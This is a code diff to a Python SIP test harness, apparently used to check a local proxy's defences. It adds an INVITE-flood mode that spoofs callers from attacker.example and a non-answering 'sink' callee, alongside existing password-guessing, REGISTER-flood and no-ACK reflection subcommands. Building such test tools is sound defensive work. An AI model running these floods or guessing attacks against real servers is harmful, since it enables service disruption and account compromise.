@@ -10,7 +10,15 @@ and talks to the server at 127.0.0.1:--port. Every wait is bounded.
   guess     --count wrong-password REGISTERs in a row; print one status per
             attempt ("401", "403", "timeout"), with --times also its seconds.
   flood     REGISTERs without credentials at --rate for --seconds; print
-            "sent=N received=M".
+            "sent=N received=M". With --method INVITE: INVITEs to --to at
+            our domain from a user of --from-domain (a foreign caller, which
+            the default proxy.foreign_callers=allow forwards), each a new
+            call (fresh Call-ID, tag and branch) with a small SDP body.
+  sink      A callee that never answers: register --user from its own
+            socket, print "registered", then count what reaches it until
+            --seconds pass or SIGTERM; print "datagrams=N invites=M" (M:
+            distinct INVITE Call-IDs, retransmissions not counted), and on
+            SIGUSR1 print the counts so far and start again from zero.
   noack     INVITE from our domain, take the 407, never ACK it; count what
             arrives in the next --wait seconds; print "first=CODE extra=N".
             With --victim PORT, the Via names maddr=127.0.0.1 and that port:
@@ -21,6 +29,7 @@ import hashlib
 import os
 import random
 import re
+import signal
 import socket
 import sys
 import time
@@ -45,6 +54,7 @@ class Peer:
         self.call_id = rand(16) + "@attack"
         self.tag = rand(8)
         self.cseq = 0
+        self.expires = 60
 
     def register(self, user, auth=None, branch=None):
         self.cseq += 1
@@ -58,7 +68,7 @@ class Peer:
             f"Call-ID: {self.call_id}\r\n"
             f"CSeq: {self.cseq} REGISTER\r\n"
             f"Contact: <sip:{user}@{self.src}:{self.lport}>\r\n"
-            f"Expires: 60\r\n"
+            f"Expires: {self.expires}\r\n"
         )
         if auth:
             msg += f"Authorization: {auth}\r\n"
@@ -140,18 +150,34 @@ def cmd_guess(a):
     return 0
 
 
+def flood_template(a, peer):
+    """The flood's message, with {b} standing for what makes each one new."""
+    hostport = f"{peer.src}:{peer.lport}"
+    if a.method == "REGISTER":
+        return (
+            "REGISTER sip:" + DOMAIN + " SIP/2.0\r\n"
+            "Via: SIP/2.0/UDP " + hostport + ";rport;branch=z9hG4bK{b}\r\n"
+            "Max-Forwards: 70\r\nFrom: <sip:flood@" + DOMAIN + ">;tag={b}\r\n"
+            "To: <sip:flood@" + DOMAIN + ">\r\nCall-ID: {b}@flood\r\nCSeq: 1 REGISTER\r\n"
+            "Contact: <sip:flood@" + hostport + ">\r\nContent-Length: 0\r\n\r\n")
+    sdp = (f"v=0\r\no=flood 1 1 IN IP4 {peer.src}\r\ns=-\r\nc=IN IP4 {peer.src}\r\n"
+           "t=0 0\r\nm=audio 9 RTP/AVP 0\r\n")
+    return (
+        "INVITE sip:" + a.to + "@" + DOMAIN + " SIP/2.0\r\n"
+        "Via: SIP/2.0/UDP " + hostport + ";rport;branch=z9hG4bK{b}\r\n"
+        "Max-Forwards: 70\r\nFrom: <sip:flood@" + a.from_domain + ">;tag={b}\r\n"
+        "To: <sip:" + a.to + "@" + DOMAIN + ">\r\nCall-ID: {b}@flood\r\nCSeq: 1 INVITE\r\n"
+        "Contact: <sip:flood@" + hostport + ">\r\nContent-Type: application/sdp\r\n"
+        f"Content-Length: {len(sdp)}\r\n\r\n" + sdp)
+
+
 def cmd_flood(a):
     peer = Peer(a.src, a.port)
     peer.sock.setblocking(False)
     sent = received = 0
     start = time.monotonic()
     end = start + a.seconds
-    tmpl = (
-        "REGISTER sip:" + DOMAIN + " SIP/2.0\r\n"
-        "Via: SIP/2.0/UDP " + f"{peer.src}:{peer.lport}" + ";rport;branch=z9hG4bK{b}\r\n"
-        "Max-Forwards: 70\r\nFrom: <sip:flood@" + DOMAIN + ">;tag={b}\r\n"
-        "To: <sip:flood@" + DOMAIN + ">\r\nCall-ID: {b}@flood\r\nCSeq: 1 REGISTER\r\n"
-        "Contact: <sip:flood@" + f"{peer.src}:{peer.lport}" + ">\r\nContent-Length: 0\r\n\r\n")
+    tmpl = flood_template(a, peer)
     while True:
         now = time.monotonic()
         if now >= end:
@@ -179,6 +205,38 @@ def cmd_flood(a):
         pass
     print(f"sent={sent} received={received}")
     return 0
+
+
+def cmd_sink(a):
+    peer = Peer(a.src, a.port)
+    peer.expires = 600  # outlives the test, across server restarts
+    st = attempt(peer, a.user, a.password, a.timeout)
+    if st != "200":
+        print(f"register={st}", flush=True)
+        return 1
+    print("registered", flush=True)
+    flags = set()
+    signal.signal(signal.SIGTERM, lambda *_: flags.add("stop"))
+    signal.signal(signal.SIGUSR1, lambda *_: flags.add("report"))
+    datagrams, calls = 0, set()
+    end = time.monotonic() + a.seconds
+    peer.sock.settimeout(0.2)
+    while True:
+        done = "stop" in flags or time.monotonic() >= end
+        if done or "report" in flags:
+            flags.discard("report")
+            print(f"datagrams={datagrams} invites={len(calls)}", flush=True)
+            datagrams, calls = 0, set()
+        if done:
+            return 0
+        try:
+            data, _ = peer.sock.recvfrom(65536)
+        except (socket.timeout, InterruptedError):
+            continue
+        datagrams += 1
+        if data.startswith(b"INVITE "):
+            m = re.search(rb"\r\n(?:Call-ID|i)[ \t]*:[ \t]*([^\r]+)", data, re.I)
+            calls.add(m.group(1) if m else data)
 
 
 def cmd_noack(a):
@@ -241,7 +299,7 @@ def cmd_noack(a):
 def main():
     p = argparse.ArgumentParser()
     sub = p.add_subparsers(dest="cmd", required=True)
-    for name in ("register", "guess", "flood", "noack"):
+    for name in ("register", "guess", "flood", "noack", "sink"):
         s = sub.add_parser(name)
         s.add_argument("--src", default="127.0.0.1")
         s.add_argument("--port", type=int, required=True)
@@ -256,10 +314,13 @@ def main():
         s.add_argument("--ack", action="store_true")
         s.add_argument("--times", action="store_true")
         s.add_argument("--domain", default=DOMAIN)
+        s.add_argument("--method", choices=("REGISTER", "INVITE"), default="REGISTER")
+        s.add_argument("--to", default="bob")
+        s.add_argument("--from-domain", default="attacker.example")
     a = p.parse_args()
     globals()["DOMAIN"] = a.domain
     return {"register": cmd_register, "guess": cmd_guess, "flood": cmd_flood,
-            "noack": cmd_noack}[a.cmd](a)
+            "noack": cmd_noack, "sink": cmd_sink}[a.cmd](a)
 
 
 if __name__ == "__main__":
